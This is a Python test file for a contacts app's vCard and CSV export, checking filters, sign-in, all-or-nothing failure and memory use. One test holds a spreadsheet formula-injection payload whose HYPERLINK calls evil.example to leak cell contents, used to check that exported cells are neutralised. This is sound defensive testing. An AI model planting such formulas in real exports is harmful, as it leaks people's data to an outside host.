"""The book as one file: all of it or an error, and a table that tricks no spreadsheet."""

import csv
import io
import re
import threading
import tracemalloc
from datetime import UTC, date, datetime
from uuid import UUID

import pytest
from flask import Flask
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import update

from netcard import vcard
from netcard.contacts import actions, book, exporting
from netcard.contacts.cells import unguarded
from netcard.contacts.models import Contact, Encounter
from netcard.contacts.rules import Met
from netcard.database import db, new_id, writing
from tests.contacts.test_book import contact_of, meet
from tests.contacts.test_pages import held, met
from tests.people import Person


def card(name: str, *lines: str, version: str = "3.0") -> bytes:
    return "\r\n".join(("BEGIN:VCARD", f"VERSION:{version}", f"FN:{name}", *lines, "END:VCARD", "")).encode()


def kept(app: Flask, owner: Person, *cards: bytes) -> list[UUID]:
    """Contacts as a phone puts them there."""
    with app.app_context():
        with writing():
            ids = [book.add(owner.id, data).id for data in cards]
        db.session.remove()
    return ids


def table_of(owner: Person, query: str = "") -> list[dict[str, str]]:
    answer = owner.client.get(f"/contacts/export.csv{query}")
    assert answer.status_code == 200
    rows = csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline=""))
    return [{name: unguarded(cell) for name, cell in row.items()} for row in rows]


def names_of(data: bytes) -> list[str]:
    return [vcard.project(vcard.parse(piece.data)).full_name for piece in vcard.split(data)]


# --- vCards -------------------------------------------------------------------


def test_every_card_goes_out_as_it_is_kept(app: Flask, ada: Person, ben: Person) -> None:
    met(app, ben, "Ben's own")
    met(app, ada)
    one = card("Amrit Lall", "item1.X-SECRET;X-A=b:kept", "TEL:+49 30 1234")
    kept(app, ada, one)

    answer = ada.client.get("/contacts/export.vcf")

    assert answer.content_type == "text/vcard; charset=utf-8"
    assert re.fullmatch(
        r"attachment; filename=netcard-people-\d{4}-\d\d-\d\d\.vcf", answer.headers["Content-Disposition"]
    )
    assert answer.headers["Cache-Control"] == "no-store"
    assert int(answer.headers["Content-Length"]) == len(answer.data)
    assert one in answer.data
    assert sorted(names_of(answer.data)) == ["Amrit Lall", "Margit Solheim"]


def test_cards_of_any_version_go_out_in_the_one_asked_for(app: Flask, ada: Person) -> None:
    old = card("Old Nokia", "TEL;CELL:123456", version="2.1")
    no_end = card("No Last Line End").rstrip()
    marked = b"\xef\xbb\xbf\r\n" + card("Marked")
    kept(app, ada, old, no_end, marked, card("New", "TEL;VALUE=uri:tel:+431", version="4.0"))

    for query, version in (("", b"3.0"), ("?version=3.0", b"3.0"), ("?version=4.0", b"4.0")):
        data = ada.client.get(f"/contacts/export.vcf{query}").data
        assert data.count(b"\r\nVERSION:") == data.count(b"\r\nVERSION:" + version) == 4
        assert data.count(b"BEGIN:VCARD\r\n") == data.count(b"\r\nEND:VCARD\r\n") == 4
        assert b"\xef\xbb\xbf" not in data
        assert len(names_of(data)) == 4


def test_another_version_is_refused(app: Flask, ada: Person) -> None:
    met(app, ada)

    assert ada.client.get("/contacts/export.vcf?version=5").status_code == 422


def test_an_empty_book_is_no_vcard_file_but_a_table_with_headings(app: Flask, ada: Person) -> None:
    answer = ada.client.get("/contacts/export.vcf")

    assert (answer.status_code, answer.headers["Location"]) == (303, "/contacts")
    assert "Nobody to export yet." in ada.client.get("/contacts").text
    assert table_of(ada) == []
    assert ada.client.get("/contacts/export.csv").data.count(b"\r\n") == 1


@pytest.mark.parametrize("address", ["/contacts/export.vcf", "/contacts/export.csv"])
def test_a_browser_can_tell_whether_all_of_it_came(app: Flask, ada: Person, address: str) -> None:
    kept(app, ada, card("Margit Solheim", f"NOTE:{'long ' * 1000}"))

    answer = ada.client.get(address, headers={"Accept-Encoding": "br, gzip"})

    assert "Content-Encoding" not in answer.headers
    assert int(answer.headers["Content-Length"]) == len(answer.data) > 5000


# --- the table ----------------------------------------------------------------


def test_a_row_says_what_the_page_says(app: Flask, ada: Person, ben: Person) -> None:
    congress = held(app, ada)
    contact_id = met(
        app, ada, "Margit Solheim", institution="Fjordside", role="Chair", tags=("Cleft",), met_line=False,
        met_at=datetime(2026, 11, 20, 23, 30, tzinfo=UTC), discussed="packing\nand speech", poster="P-1",
    )  # fmt: skip
    data = card(
        "Dr. Margit Anne Solheim, MD", "N:Solheim;Margit;Anne;Dr.;MD", "ORG:Fjordside;Plastic Surgery",
        "TITLE:Consultant", "EMAIL:m@fjord.example", "EMAIL:s@home.example", "TEL:+47 22 33",
        "TEL:+49 30 12,,34", "CATEGORIES:Cleft,Speech", "NOTE:line one\\nline two", "URL:https://fjord.example/m",
        "item1.URL:https://second.example",
    )  # fmt: skip
    with app.app_context():
        with writing():
            contact = contact_of(ada, contact_id)
            book.change(contact, lambda _: vcard.parse(data), "test")
            actions.star(contact)
            again = Met(
                name="", met_at=datetime(2026, 11, 22, 12, tzinfo=UTC), event_id=congress, poster="P-9",
                discussed="fistulas", promised="the scale", promised_by=date(2026, 12, 1),
                offered="a month",
            )  # fmt: skip
            actions.meet_again(contact, again, encounter_id=new_id())
        db.session.remove()
    met(app, ben, "Not Adas")

    assert table_of(ada) == [
        {
            "Name": "Dr. Margit Anne Solheim, MD",
            "Prefix": "Dr.",
            "Given name": "Margit",
            "Middle name": "Anne",
            "Family name": "Solheim",
            "Suffix": "MD",
            "Institution": "Fjordside",
            "Department": "Plastic Surgery",
            "Title": "Consultant",
            "Role": "Chair",
            "E-mail": "m@fjord.example, s@home.example",
            "Phone": "+47 22 33, +49 30 12,,34",
            "Tags": "Cleft, Speech",
            "Note": "line one\nline two",
            "Website": "https://fjord.example/m, https://second.example",
            "Starred": "yes",
            "First met": "2026-11-21",  # past midnight in Vienna
            "Last met": "2026-11-22",
            "Event": "Northern Cleft Congress",
            "Poster": "P-9",
            "Discussed": "fistulas",
            "Promised": "the scale",
            "Promised by": "2026-12-01",
            "Offered": "a month",
            "Earlier meetings": "2026-11-21\n  Poster: P-1\n  Discussed: packing\n    and speech",
        }
    ]


def test_a_removed_meeting_an_event_and_a_person_stay_out(app: Flask, ada: Person) -> None:
    gone, here = met(app, ada, "Removed"), met(app, ada, "Kept", discussed="said once")
    with app.app_context():
        with writing():
            book.remove(contact_of(ada, gone))
            contact = contact_of(ada, here)
            actions.remove_encounter(contact, contact.encounters[0])
        db.session.remove()

    (row,) = table_of(ada)
    assert (row["Name"], row["Discussed"], row["First met"]) == ("Kept", "", "")
    assert names_of(ada.client.get("/contacts/export.vcf").data) == ["Kept"]


def test_the_table_opens_in_excel_with_accents_and_line_ends(app: Flask, ada: Person) -> None:
    met(app, ada, "Đức Nguyễn")

    answer = ada.client.get("/contacts/export.csv")

    assert answer.content_type == "text/csv; charset=utf-8"
    assert answer.data.startswith(b'\xef\xbb\xbf"Name","Prefix",')
    assert answer.data.endswith(b'"\r\n')
    assert "Đức Nguyễn" in answer.data.decode("utf-8-sig")
    assert re.fullmatch(
        r"attachment; filename=netcard-people-\d{4}-\d\d-\d\d\.csv", answer.headers["Content-Disposition"]
    )
    assert int(answer.headers["Content-Length"]) == len(answer.data)


FORMULA = '=HYPERLINK("https://evil.example/?"&A2;"Margit")'


@pytest.mark.parametrize("start", ["", " ", '"', "\u200b", "＝", "+", "@"])
def test_no_field_of_a_strangers_card_becomes_a_formula(app: Flask, ada: Person, start: str) -> None:
    bad = f"{start}{FORMULA}"
    written = bad.replace(";", "\\;")
    kept(
        app, ada,
        card(written, f"N:{written};{written};;;", f"ORG:{written};{written}", f"TITLE:{written}",
             f"EMAIL:{written}", f"TEL:{written}", f"CATEGORIES:{written}", f"NOTE:a\\n{written}",
             f"URL:{written}"),
    )  # fmt: skip
    met(app, ada, "Noise", discussed=bad, promised=bad, poster=bad, role=bad[:40])

    text = ada.client.get("/contacts/export.csv").data.decode("utf-8-sig")

    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            for part in re.split(r"[;\t\r\n]", cell):
                assert part.lstrip(' "\u200b')[:1] not in set("=+-@＝"), cell
    assert {row["Name"] for row in table_of(ada)} == {bad.strip(), "Noise"}


@settings(max_examples=30, deadline=None, suppress_health_check=list(HealthCheck))
@given(said=st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=60))
def test_whatever_was_said_comes_out_as_it_was(app: Flask, ada: Person, said: str) -> None:
    with app.app_context():
        with writing():
            if not db.session.query(Contact).filter_by(owner_id=ada.id).count():
                actions.meet(
                    ada.id,
                    Met(name="A", met_at=datetime(2026, 1, 1, tzinfo=UTC)),
                    encounter_id=new_id(),
                    met_line=False,
                )
            db.session.execute(update(Encounter).where(Encounter.owner_id == ada.id).values(discussed=said))
        db.session.remove()

    assert [row["Discussed"] for row in table_of(ada)] == [said]


# --- whom ---------------------------------------------------------------------


def test_the_lists_filters_choose_who_goes_out(app: Flask, ada: Person) -> None:
    congress = held(app, ada)
    met(app, ada, "Noise")
    met(app, ada, "Margit Solheim", event_id=congress)
    met(app, ada, "Amrit Solano", tags=("Cleft",))
    starred = met(app, ada, "Hana Watabe")
    ada.client.post(f"/contacts/{starred}/star")

    for query, names in {
        "?q=sol": {"Margit Solheim", "Amrit Solano"},
        "?q=sol+ma": {"Margit Solheim"},
        f"?event={congress}": {"Margit Solheim"},
        "?tag=cleft": {"Amrit Solano"},
        "?starred=1": {"Hana Watabe"},
        "?q=nobody": set(),
    }.items():
        assert {row["Name"] for row in table_of(ada, query)} == names
        answer = ada.client.get(f"/contacts/export.vcf{query}")
        assert answer.status_code == 303 if not names else set(names_of(answer.data)) == names
    assert ada.client.get("/contacts/export.csv?event=nonsense").status_code == 404


@pytest.mark.parametrize("address", ["/contacts/export.vcf", "/contacts/export.csv"])
def test_nobody_exports_without_signing_in(app: Flask, ada: Person, client, address: str) -> None:
    met(app, ada)

    answer = client.get(address)
    assert answer.status_code in (302, 303)
    assert b"Margit" not in answer.data


# --- whole or not at all ------------------------------------------------------


@pytest.mark.parametrize("address", ["/contacts/export.vcf", "/contacts/export.csv"])
def test_what_breaks_halfway_is_an_error_and_no_file(app: Flask, ada: Person, address: str) -> None:
    first, _ = kept(app, ada, card("Damaged"), card("Whole"))
    with app.app_context():
        with writing():
            db.session.execute(
                update(Contact).where(Contact.id == first).values(vcard=b"BEGIN:VCARD\r\nrotten")
            )
        db.session.remove()

    answer = ada.client.get(address)

    assert (answer.status_code, answer.mimetype) == (500, "text/html")
    assert "Content-Disposition" not in answer.headers
    assert b"Whole" not in answer.data
    assert ada.client.get("/contacts").status_code == 200  # and no open transaction stays behind


def test_an_export_shows_one_moment_whoever_writes_meanwhile(
    app: Flask, ada: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "PAGE", 2)
    kept(app, ada, *(card(f"Person {number}") for number in range(5)))

    def meddle() -> None:
        with app.app_context():
            meet(ada, "Too late", met_at=datetime(1990, 1, 1, tzinfo=UTC))
            with writing():
                for contact in db.session.query(Contact).filter_by(owner_id=ada.id):
                    if contact.name != "Too late":
                        book.remove(contact)
            db.session.remove()

    threads: list[threading.Thread] = []
    read = exporting._parsed

    def read_while_another_writes(row: exporting.Facts, data: bytes) -> vcard.Card:
        if not threads:
            threads.append(threading.Thread(target=meddle))
            threads[0].start()
            threads[0].join(30)
            assert not threads[0].is_alive()
        return read(row, data)

    monkeypatch.setattr(exporting, "_parsed", read_while_another_writes)
    assert sorted(row["Name"] for row in table_of(ada)) == [f"Person {number}" for number in range(5)]
    assert names_of(ada.client.get("/contacts/export.vcf").data) == ["Too late"]


def test_every_page_is_read_once(app: Flask, ada: Person, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporting, "PAGE", 2)
    monkeypatch.setattr(exporting, "BYTES_AT_ONCE", 1)
    same = datetime(2026, 1, 1, tzinfo=UTC)
    with app.app_context():
        for number in range(5):
            meet(ada, f"Person {number}", met_at=same)
        db.session.remove()

    assert sorted(row["Name"] for row in table_of(ada)) == [f"Person {number}" for number in range(5)]


def test_memory_does_not_grow_with_the_photos(app: Flask, ada: Person) -> None:
    photo = "A" * 500_000
    with app.app_context():
        with writing():
            cards = [book.prepare(card(f"P {n}", f"PHOTO;ENCODING=b;TYPE=JPEG:{photo}")) for n in range(50)]
            book.add_all(ada.id, cards)
        db.session.remove()
    del cards

    tracemalloc.start()
    answer = ada.client.get("/contacts/export.vcf", buffered=False)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()

    assert int(answer.headers["Content-Length"]) > 25_000_000
    assert peak < 15_000_000
    answer.close()
